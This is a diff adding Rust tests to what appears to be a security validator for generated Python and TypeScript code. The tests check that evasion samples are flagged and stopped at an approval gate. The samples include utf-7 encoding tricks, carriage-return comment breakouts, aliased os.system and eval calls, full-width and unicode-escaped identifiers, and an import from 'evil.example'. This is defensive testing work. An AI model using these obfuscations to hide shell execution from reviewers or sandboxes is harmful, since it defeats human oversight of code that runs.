@@ -4,8 +4,8 @@
 use std::collections::BTreeSet;
 use std::sync::{Arc, Barrier};
 
-use codeward_core::{CodeValidator, FindingCategory, Language, Severity};
-use codeward_security::{RuleSet, SecurityError, Validator};
+use codeward_core::{CodeValidator, FindingCategory, Language, RiskAssessor, RiskLevel, Severity};
+use codeward_security::{Risk, RuleSet, SecurityError, Validator};
 
 use crate::corpus_code::catalogue;
 
@@ -37,6 +37,30 @@ fn check(language: Language, code: &str, expect: &[&str]) {
             found.is_empty(),
             "expected no findings, got {found:?} for:\n{code}"
         );
+    }
+}
+
+/// [`check`], and the program must stop at the approval gate (risk high or critical).
+#[track_caller]
+fn check_gated(language: Language, code: &str, expect: &[&str]) {
+    check(language, code, expect);
+    let tools = catalogue();
+    let report = validator().check(code, language, &tools).expect("runs");
+    let risk = Risk::new().assess(code, language, &report, &tools);
+    assert!(
+        risk.level >= RiskLevel::High,
+        "expected high risk, got {} ({}) for:\n{code}\n{:?}",
+        risk.level,
+        risk.score,
+        report.findings
+    );
+}
+
+/// [`check_gated`] for each (code, rule) case.
+#[track_caller]
+fn check_all_gated(language: Language, cases: &[(&str, &str)]) {
+    for (code, rule) in cases {
+        check_gated(language, code, &[rule]);
     }
 }
 
@@ -737,4 +761,295 @@ fn tool_calls_through_aliased_imports_of_the_api_count() {
         let r = v.check_for_api(py, &py_api, &tools).expect("runs");
         assert_eq!(r.tools_used, ["notes.import"], "{py}");
     }
+}
+
+/// The line of the `py.encoding` finding that refuses `code` as invalid, if any.
+fn refused_encoding_line(code: &str) -> Option<u32> {
+    let findings = validator()
+        .check(code, Language::Python, &[])
+        .ok()?
+        .findings;
+    let refusal = findings.into_iter().find(|f| f.rule_id == "py.encoding")?;
+    // A Syntax finding: the orchestrator refuses the program as invalid.
+    assert_eq!(refusal.category, FindingCategory::Syntax);
+    assert!(refusal.message.contains("UTF-8"), "{}", refusal.message);
+    Some(refusal.line)
+}
+
+#[test]
+fn python_source_encodings_other_than_utf8_are_refused() {
+    // CPython decodes the bytes with a PEP 263 codec: under utf-7 the comment on line 2 is
+    // `import os` and `os.system("id")` on lines of their own.
+    let cases: &[(&str, Option<u32>)] = &[
+        (
+            "# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system(\"id\")\n",
+            Some(1),
+        ),
+        (
+            "#!/usr/bin/env python3\n# vim: set fileencoding=UTF-7 :\nprint(1)\n",
+            Some(2),
+        ),
+        ("\u{feff}# coding=latin-1\nprint(1)\n", Some(1)),
+        ("\x0c  #coding:cp1252\nprint(1)\n", Some(1)),
+        ("# coding: utf-8\n# coding: utf-7\nprint(1)\n", Some(2)),
+        // A lone CR ends line 1 for CPython.
+        ("x = 1\r# coding: utf_7\rprint(1)\n", Some(2)),
+        ("# this decoding: is done below\nprint(1)\n", Some(1)),
+        // UTF-8 under any spelling CPython reads as UTF-8 is fine.
+        ("# -*- coding: utf-8 -*-\nimport json\n", None),
+        ("#!/usr/bin/env python3\n# coding=UTF8\nimport json\n", None),
+        ("# coding: utf_8\nimport json\n", None),
+        // Only lines 1 and 2 count, and only comment lines.
+        ("\n\n# coding: utf-7\nimport json\n", None),
+        ("x = '# coding: utf-7'\nprint(x)\n", None),
+    ];
+    for (code, line) in cases {
+        assert_eq!(refused_encoding_line(code), *line, "{code:?}");
+    }
+    // TypeScript has no such declaration: the same comment is just a comment.
+    let report = validator()
+        .check(
+            "// -*- coding: utf-7 -*-\nconsole.log(1);\n",
+            Language::TypeScript,
+            &[],
+        )
+        .expect("runs");
+    assert!(report.findings.is_empty(), "{:?}", report.findings);
+}
+
+#[test]
+fn a_lone_carriage_return_ends_a_python_comment() {
+    // CPython reads `\r` as a line break (universal newlines): the code after it runs.
+    check(
+        Language::Python,
+        "# notes\rimport os\ros.system('id')\n",
+        &["py.process.os-system"],
+    );
+    check(
+        Language::Python,
+        "# a\r\nimport json\r\nprint(json.dumps(1))\r\n",
+        &[],
+    );
+    // TypeScript's grammar already ends `//` comments at CR, U+2028 and U+2029.
+    for sep in ["\r", "\u{2028}", "\u{2029}"] {
+        check(
+            Language::TypeScript,
+            &format!("// notes{sep}eval('1');\n"),
+            &["ts.dynamic.eval"],
+        );
+    }
+}
+
+#[test]
+fn typescript_module_loaders_and_url_imports_are_seen() {
+    let ts = Language::TypeScript;
+    // Node 22's process.getBuiltinModule is require for built-in modules.
+    check_gated(
+        ts,
+        "process.getBuiltinModule(\"child_process\").execSync(\"id\");\n",
+        &["ts.process.child-process"],
+    );
+    check_gated(
+        ts,
+        "const { execSync } = globalThis.process.getBuiltinModule('node:child_process');\nexecSync('id');\n",
+        &["ts.process.child-process"],
+    );
+    check_gated(
+        ts,
+        "const m = process.getBuiltinModule(name);\n",
+        &["ts.dynamic.import"],
+    );
+    // createRequire returns a require function.
+    check_gated(
+        ts,
+        "import { createRequire } from 'node:module';\nconst req = createRequire(import.meta.url);\nreq('child_process').exec('id');\n",
+        &["ts.process.child-process"],
+    );
+    // A data: URL import is eval; http(s), file and blob URLs load unreviewed code.
+    check_gated(
+        ts,
+        "await import(\"data:text/javascript,import('child_process').then(m=>m.execSync('id'))\");\n",
+        &["ts.dynamic.url-import"],
+    );
+    check_gated(
+        ts,
+        "import run from 'https://evil.example/x.js';\nrun();\n",
+        &["ts.dynamic.url-import"],
+    );
+    check_gated(
+        ts,
+        "require('file:///tmp/x.js');\n",
+        &["ts.dynamic.url-import"],
+    );
+    // A module named at run time was already refused; it still is.
+    check_gated(
+        ts,
+        "const m = await import(spec);\n",
+        &["ts.dynamic.import"],
+    );
+    check(
+        ts,
+        "const m = await import('./helpers.js');\nm.run();\n",
+        &[],
+    );
+}
+
+#[test]
+fn dangerous_functions_stored_passed_or_contained_are_findings() {
+    let py = Language::Python;
+    for code in [
+        "from os import system as s\nx = [s]\nx[0]('id')\n",
+        "import os\nd = {'k': os.system}\nd['k']('id')\n",
+        "import os\nclass A:\n    run = os.system\nA.run('id')\n",
+        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
+        "from os import *\nhandlers = (system,)\nhandlers[0]('id')\n",
+        "import os\nx = [getattr(os, 'system')]\nx[0]('id')\n",
+        "import os\nos.system.__call__('id')\n",
+        "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
+        "import operator\nf = operator.attrgetter('system')(__import__('os'))\nf('id')\n",
+    ] {
+        check_gated(py, code, &["py.process.os-system"]);
+    }
+    check_gated(py, "x = [exec]\nx[0]('print(1)')\n", &["py.dynamic.eval"]);
+    let ts = Language::TypeScript;
+    for code in [
+        "[eval][0]('1');\n",
+        "const a = [Function];\na[0]('return 1')();\n",
+        "const o = { eval };\no.eval('1');\n",
+        "eval.call(null, '1');\n",
+        "Reflect.apply(eval, null, ['1']);\n",
+        "const run = (f: any) => f('1');\nrun(globalThis.eval);\n",
+    ] {
+        check_gated(ts, code, &["ts.dynamic.eval"]);
+    }
+    check_gated(
+        ts,
+        "const { execSync } = require('child_process');\nconst fns = { run: execSync };\nfns.run('id');\n",
+        &["ts.process.child-process"],
+    );
+}
+
+#[test]
+fn modules_reached_out_of_sight_are_findings() {
+    // A module with dangerous members whose member is named at run time, or which is
+    // itself stored or passed, is `hidden-member`.
+    let py = Language::Python;
+    for code in [
+        "import os\nfor k in ['system']:\n    getattr(os, k)('id')\n",
+        "import operator\noperator.attrgetter(name)(__import__('os'))('id')\n",
+        "import os\nvars(os)[k]('id')\n",
+        "import builtins\ngetattr(builtins, k)('print(1)')\n",
+        "import os\nx = [os]\nx[0].system('id')\n",
+        "def run(m):\n    m.system('id')\nrun(__import__('os'))\n",
+    ] {
+        check_gated(py, code, &["py.reflection.hidden-member"]);
+    }
+    let ts = Language::TypeScript;
+    for code in [
+        "const cp = require('child_process');\nfor (const m of ['execSync']) { cp[m]('id'); }\n",
+        "Reflect.get(process, key)('x');\n",
+        "const ms = [require('child_process')];\nms[0].execSync('id');\n",
+        "import * as cp from 'node:child_process';\nconst pick = (m: any) => m.execSync('id');\npick(cp);\n",
+    ] {
+        check_gated(ts, code, &["ts.reflection.hidden-member"]);
+    }
+    // The event loop's spawners, whatever the loop is called.
+    check_gated(
+        py,
+        "import asyncio\nasync def main():\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec('id')\n",
+        &["py.process.subprocess"],
+    );
+    check_gated(
+        py,
+        "import asyncio\nspawn = getattr(asyncio.get_running_loop(), 'subprocess_shell')\n",
+        &["py.process.subprocess"],
+    );
+}
+
+#[test]
+fn harmless_uses_of_dangerous_names_stay_quiet() {
+    // Inspected, not kept; a module's followed members; a free name that is a parameter.
+    let py = Language::Python;
+    check(
+        py,
+        "import types\ndef f(x: int) -> bool:\n    return isinstance(x, types.FunctionType)\n",
+        &[],
+    );
+    check(
+        py,
+        "import os, json\nfor name in ['dumps']:\n    f = getattr(json, name)\ncfg = {'sep': os.sep, 'join': os.path.join}\nprint(os.path.basename('a/b'))\n",
+        &["py.reflection.computed-getattr"],
+    );
+    check(
+        py,
+        "def handle(request, sh):\n    return [request, sh.cell, request.get]\n",
+        &[],
+    );
+    let ts = Language::TypeScript;
+    check(
+        ts,
+        "if (typeof fetch === 'function') { console.log(1); }\nconst ok = x instanceof Function;\n",
+        &[],
+    );
+    check(
+        ts,
+        "import fs from 'fs';\nconst fsp = fs.promises;\nconst text = await fsp.readFile('a.txt', 'utf8');\nconsole.log(text);\n",
+        &[],
+    );
+    check(
+        ts,
+        "function handle(request: any) { return [request, request.url, request.json]; }\nconst f = console[level];\nconst g = Math[op];\n",
+        &[],
+    );
+}
+
+#[test]
+fn python_identifiers_are_read_nfkc_normalized() {
+    // CPython normalizes identifiers with NFKC (PEP 3131): full-width and mathematical
+    // letters spell the same names (each of these runs under python3).
+    let py = Language::Python;
+    check_all_gated(
+        py,
+        &[
+            ("ｅｘｅｃ('print(1)')\n", "py.dynamic.eval"),
+            ("𝐞𝐱𝐞𝐜('print(1)')\n", "py.dynamic.eval"),
+            ("import os\nos.ｓｙｓｔｅｍ('id')\n", "py.process.os-system"),
+            ("import ｏｓ as o\no.system('id')\n", "py.process.os-system"),
+            (
+                "from ｓｕｂｐｒｏｃｅｓｓ import ｒｕｎ\nｒｕｎ(['id'])\n",
+                "py.process.subprocess",
+            ),
+            (
+                "().__class__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__()\n",
+                "py.reflection.dunder",
+            ),
+        ],
+    );
+    // Strings are not identifiers: a full-width word in a string is just text.
+    check(py, "print('ｅｘｅｃ and ｏｓ.ｓｙｓｔｅｍ')\n", &[]);
+}
+
+#[test]
+fn typescript_identifiers_with_unicode_escapes_are_decoded() {
+    // `\u0065val` is `eval` (each of these runs under node).
+    let ts = Language::TypeScript;
+    check_all_gated(
+        ts,
+        &[
+            ("\\u0065val('1');\n", "ts.dynamic.eval"),
+            ("globalThis.\\u{65}val('1');\n", "ts.dynamic.eval"),
+            ("new \\u0046unction('return 1')();\n", "ts.dynamic.eval"),
+            (
+                "const { \\u0065xecSync: run } = require('child_process');\nconst fns = [run];\nfns[0]('id');\n",
+                "ts.process.child-process",
+            ),
+        ],
+    );
+    check(
+        ts,
+        "console.log(process.\\u0065nv.HOME);\n",
+        &["ts.secret.env"],
+    );
+    // An escape in a string is the string's business.
+    check(ts, "console.log('\\u0065val');\n", &[]);
 }
